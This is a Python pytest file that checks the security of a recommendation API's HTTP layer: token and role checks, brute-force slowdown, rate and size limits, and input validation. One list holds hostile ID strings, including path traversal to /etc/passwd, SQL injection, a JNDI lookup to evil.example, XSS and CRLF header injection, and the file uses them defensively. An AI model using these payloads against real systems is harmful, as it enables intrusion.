"""Who is let in, how often, and with how much."""

import asyncio
import time
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from fastapi import FastAPI

from slatewise.service.http import guard
from slatewise.service.http.guard import GuardedRoute
from slatewise.service.http.security import Role
from tests.service.http.conftest import ITEMS, TOKENS, TestClient, bearer

HEALTH = {"/health/live", "/health/ready"}
PAGE = {"/", "/docs", "/page/{name}"}
"""Files that are the same for all who ask: what they show is asked of the API, with a token."""


def problem(answer: Any, status: int) -> dict[str, Any]:
    """Return the problem of an answer that must be one."""
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    told: dict[str, Any] = answer.json()
    assert told.keys() == {"type", "title", "status", "detail", "remedy"}
    assert told["status"] == status
    assert told["detail"]
    assert told["remedy"]
    return told


def operations(app: FastAPI) -> list[tuple[str, str, Any]]:
    """Return method, path and route of all that can be asked."""
    return [
        (method, route.path_format.replace("{item_id}", "x").replace("{user_id}", "x"), route)
        for route in app.routes
        for method in route.methods
    ]


def test_every_route_but_health_and_the_page_needs_a_token_of_its_role(anvil: TestClient) -> None:
    roles = {}
    for method, path, route in operations(anvil.app):
        if path in HEALTH:
            assert anvil.request(method, path, headers={"Authorization": ""}).status_code == 200
            continue
        if path in PAGE:
            assert not isinstance(route, GuardedRoute)
            continue
        assert isinstance(route, GuardedRoute)
        roles[method, path] = route.needs
        for wrong in ("", "Bearer", "Bearer ", f"Basic {TOKENS['admin']}", "Bearer nobody-s-token"):
            answer = anvil.request(method, path, headers={"Authorization": wrong})
            problem(answer, 401)
            assert answer.headers["www-authenticate"].startswith("Bearer")
        for role in Role:
            if role < route.needs:
                answer = anvil.request(method, path, headers=bearer(role.name.lower()))
                assert route.needs.name.lower() in problem(answer, 403)["remedy"]
    assert roles["POST", "/v1/recommend"] is Role.READ
    assert roles["POST", "/v1/feedback"] is roles["PUT", "/v1/items"] is Role.WRITE
    assert roles["DELETE", "/v1/items/x"] is roles["PUT", "/v1/items/x"] is Role.WRITE
    assert roles["DELETE", "/v1/users/x"] is roles["GET", "/v1/users/x"] is Role.ADMIN
    for control in (("PUT", "/v1/arms"), ("DELETE", "/v1/arms")):
        assert roles[control] is Role.ADMIN
    assert roles["POST", "/v1/models/{model}/rollback"] is Role.ADMIN
    assert len(roles) == 24


def test_a_token_of_the_role_or_above_is_let_in(client: TestClient) -> None:
    for role in TOKENS:
        assert client.post("/v1/recommend", json={}, headers=bearer(role)).status_code == 200
    told = {"events": [{"slate_id": "x", "items": ["a"], "source": "search"}]}
    assert client.post("/v1/feedback", json=told, headers=bearer("write")).status_code == 200
    assert client.get("/v1/users/x", headers=bearer("admin")).status_code == 200


def test_tokens_are_judged_before_bodies_are_read(anvil: TestClient) -> None:
    headers = bearer("read") | {"Content-Type": "application/json"}
    problem(anvil.post("/v1/feedback", content=b"not JSON", headers=headers), 403)


@pytest.mark.usefixtures("still")
def test_whoever_guesses_tokens_is_slowed_down(
    anvil: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(guard, "BRAKE_SECONDS", 0.2)
    waited = []
    for number in range(20):
        wrong = {"Authorization": f"Bearer guess-number-{number:06d}"}
        start = time.monotonic()
        path = "/v1/items" if number % 2 else "/v1/recommend"
        problem(anvil.request("GET" if number % 2 else "POST", path, headers=wrong), 401)
        waited.append(time.monotonic() - start > 0.2)
    assert all(waited[10:])  # two seconds' worth were answered at once
    monkeypatch.setattr(guard, "BRAKE_SECONDS", 30)  # so that a busy machine is not taken for it
    start = time.monotonic()
    assert anvil.get("/v1/items").status_code == 200
    assert time.monotonic() - start < 30


@pytest.mark.usefixtures("still")
def test_a_token_that_asks_too_often_waits_and_others_do_not(
    make_app: Callable[..., FastAPI],
) -> None:
    app = make_app(limits={"requests_per_second": 0.5})
    with TestClient(app, headers=bearer("write")) as client:
        assert client.get("/v1/items").status_code == 200
        answer = client.get("/v1/items")
        problem(answer, 429)
        assert answer.headers["retry-after"] == "2"
        assert client.get("/v1/items", headers=bearer("read")).status_code == 200
        assert client.get("/health/live").status_code == 200


@pytest.mark.usefixtures("still")
def test_a_token_that_sends_too_much_waits_too(make_app: Callable[..., FastAPI]) -> None:
    with TestClient(make_app(limits={"requests_per_second": 10})) as client:
        client.headers.update(bearer("read"))
        clicks = [f"{number:020d}" for number in range(5_000)]  # 120 kB
        answers = [client.post("/v1/recommend", json={"clicks": clicks}) for _ in range(3)]
        assert [answer.status_code for answer in answers] == [200, 429, 429]
        assert int(answers[-1].headers["retry-after"]) >= 1
        problem(answers[-1], 429)


def test_without_tokens_only_names_of_this_machine_are_served(
    make_app: Callable[..., FastAPI],
) -> None:
    with TestClient(make_app(open_to_all=True), base_url="http://127.0.0.1:8000") as client:
        assert client.post("/v1/recommend", json={}).status_code == 200
        assert client.delete("/v1/users/x").status_code == 200
        for host in ("localhost", "localhost:9", "[::1]:8000"):
            assert client.get("/v1/items", headers={"Host": host}).status_code == 200
        for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example", ""):
            problem(client.get("/v1/items", headers={"Host": host}), 403)


@pytest.mark.parametrize("path", ["/v1/recommend", "/v1/feedback"])
def test_a_large_body_is_refused_whether_or_not_it_says_so(
    make_app: Callable[..., FastAPI], path: str
) -> None:
    def pieces() -> Iterator[bytes]:
        for _ in range(100):
            yield b" " * 1_000

    headers = bearer("admin") | {"Content-Type": "application/json"}
    with TestClient(make_app(limits={"body_bytes": 5_000}), headers=headers) as client:
        problem(client.post(path, content=b" " * 5_001), 413)
        problem(client.post(path, content=pieces()), 413)
        assert client.post(path, content=b"{}" + b" " * 4_998).status_code in (200, 422)


def ask_in_parts(client: TestClient, app: FastAPI, receive: Any) -> list[Any]:
    """Return what is sent to a client whose request comes in messages of its own."""
    assert client.portal is not None
    sent: list[Any] = []

    async def ask() -> None:
        async def send(message: Any) -> None:
            sent.append(message)

        headers = [
            (b"authorization", f"Bearer {TOKENS['admin']}".encode()),
            (b"content-type", b"application/json"),
        ]
        scope = {
            "type": "http",
            "method": "POST",
            "path": "/v1/recommend",
            "raw_path": b"/v1/recommend",
            "query_string": b"",
            "headers": headers,
            "root_path": "",
            "http_version": "1.1",
            "scheme": "http",
            "server": ("127.0.0.1", 80),
        }
        await app(scope, receive, send)

    client.portal.call(ask)
    return sent


def test_a_slow_body_is_not_waited_for(
    client: TestClient, app: FastAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(guard, "BODY_SECONDS", 0.05)

    async def never() -> dict[str, Any]:
        await asyncio.sleep(30)
        return {}

    sent = ask_in_parts(client, app, never)
    assert sent[0]["status"] == 408
    assert (b"connection", b"close") in sent[0]["headers"]


def test_a_client_that_leaves_before_its_body_is_there_is_no_error_of_ours(
    client: TestClient, app: FastAPI, caplog: pytest.LogCaptureFixture
) -> None:
    coming = iter([{"type": "http.request", "body": b"{", "more_body": True}])

    async def leave() -> dict[str, Any]:
        return next(coming, {"type": "http.disconnect"})

    assert ask_in_parts(client, app, leave)[0]["status"] == 400
    assert not [record for record in caplog.records if record.levelname == "ERROR"]


@pytest.mark.parametrize(
    ("kind", "status"),
    [
        ("application/json", 200),
        ("application/json; charset=utf-8", 200),
        ("APPLICATION/JSON", 200),
        ("text/plain", 415),
        ("application/x-www-form-urlencoded", 415),
        ("multipart/form-data; boundary=x", 415),
        ("application/jsonp", 415),
        ("", 415),
        ("json", 415),
    ],
)
@pytest.mark.parametrize("path", ["/v1/recommend", "/v1/items"])
def test_only_json_is_taken(anvil: TestClient, path: str, kind: str, status: int) -> None:
    method = "POST" if path == "/v1/recommend" else "PUT"
    content = b"{}" if method == "POST" else b'{"items": [{"id": 1, "group": "a"}]}'
    answer = anvil.request(method, path, content=content, headers={"Content-Type": kind})
    if status == 200:
        assert answer.status_code == 200
    else:
        problem(answer, status)


DEEP = b"[" * 100_000 + b"]" * 100_000
BAD_JSON = [
    b"",
    b"{",
    b"nonsense",
    b'{"k": NaN}',
    b'{"k": Infinity}',
    b'{"user_id": "\xff\xfe"}',
    b'{"user_id": "\\ud800"}',
    b'{"user_id": "\\udcff\\ud800"}',
    b"\xef\xbb\xbf{}",
    b"\x00",
    b'{"clicks": ' + DEEP + b"}",
    DEEP,
    b'{"k": ' + b"9" * 100_000 + b"}",
    b"{}{}",
]


@pytest.mark.parametrize("content", BAD_JSON, ids=range(len(BAD_JSON)))
@pytest.mark.parametrize("path", ["/v1/recommend", "/v1/feedback"])
def test_what_is_not_json_is_refused_in_words(anvil: TestClient, path: str, content: bytes) -> None:
    answer = anvil.post(path, content=content, headers={"Content-Type": "application/json"})
    told = problem(answer, answer.status_code)
    assert answer.status_code in (400, 422)
    assert "Traceback" not in answer.text
    assert len(told["detail"]) < 500


BAD_BODIES: list[Any] = [
    [],
    "text",
    {"k": 0},
    {"k": -1},
    {"k": 201},
    {"k": 10**30},
    {"k": 5.5},
    {"k": 1e300},
    {"k": "5"},
    {"k": True},
    {"user_id": ""},
    {"user_id": "x" * 201},
    {"user_id": "a\x00b"},
    {"user_id": 10**30},
    {"user_id": 1.5},
    {"user_id": True},
    {"user_id": {"a": 1}},
    {"clicks": "item-1"},
    {"clicks": [None]},
    {"clicks": ["x"] * 10_001},
    {"clicks": {"0": "item-1"}},
    {"groups": -1},
    {"groups": {"a": -1}},
    {"groups": {"a": "many"}},
    {"clicked": "maybe"},
    {"seed": -1},
    {"seed": 2**63},
    {"source": ""},
    {"source": "\x00"},
    {"unheard": 1},
    {"__proto__": {}},
]


@pytest.mark.parametrize("body", BAD_BODIES, ids=lambda body: str(body)[:30])
def test_values_that_cannot_be_are_refused_in_words(anvil: TestClient, body: Any) -> None:
    problem(anvil.post("/v1/recommend", json=body), 422)


HOSTILE = [
    "../../etc/passwd",
    "'; DROP TABLE slates; --",
    '" OR 1=1 --',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "%s%n%x",
    "a/b/c",
    "a?b#c",
    "\r\nX-Injected: yes",
    "\N{DUCK}\u202e",
    "item-1",
    "null",
    "-1",
    " ",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_ids_are_only_names(anvil: TestClient, name: str) -> None:
    path = f"/v1/items/{quote(name, safe='')}"
    assert anvil.put(path, json={"group": name}).json() == {
        "id": name,
        "group": name,
        "state": "shown",
    }
    assert anvil.get(path).json()["id"] == name
    answer = anvil.post("/v1/recommend", json={"user_id": name, "clicks": [name], "k": 5})
    assert answer.status_code == 200
    slate = answer.json()
    event = {"slate_id": slate["slate_id"], "clicked": slate["items"][0]["id"]}
    assert anvil.post("/v1/feedback", json={"events": [event]}).json()["recorded"] == 1
    user = anvil.get(f"/v1/users/{quote(name, safe='')}").json()
    assert user["user_id"] == name
    assert len(user["visits"]) == 1
    assert anvil.delete(f"/v1/users/{quote(name, safe='')}").json()["slates"] == 1
    assert anvil.delete(path).json()["state"] == "removed"
    assert len(anvil.get("/v1/items").json()["items"]) >= len(ITEMS) - 1


@pytest.mark.parametrize("path", ["/v1/items/%00", "/v1/users/a%00b", "/v1/items/" + "x" * 201])
def test_ids_that_cannot_be_are_refused_in_the_path_too(anvil: TestClient, path: str) -> None:
    problem(anvil.get(path), 422)


def test_a_parameter_that_is_given_twice_is_refused(anvil: TestClient) -> None:
    problem(anvil.get("/v1/items?after=a&after=b"), 400)


def test_a_parameter_that_is_none_is_named_with_those_that_there_are(anvil: TestClient) -> None:
    told = problem(anvil.get("/v1/items?limt=5"), 400)
    assert told["detail"] == "There is no parameter 'limt'."
    assert told["remedy"].startswith("Did you mean limit? The parameters are after, limit")
    assert "no parameter 'k'" in problem(anvil.post("/v1/recommend?k=5", json={}), 400)["detail"]


def test_a_path_that_is_not_utf_8_is_refused(anvil: TestClient) -> None:
    # Else two ids that differ would be read as one.
    problem(anvil.get("/v1/items/%ff"), 400)
    problem(anvil.delete("/v1/users/%ed%a0%80"), 400)
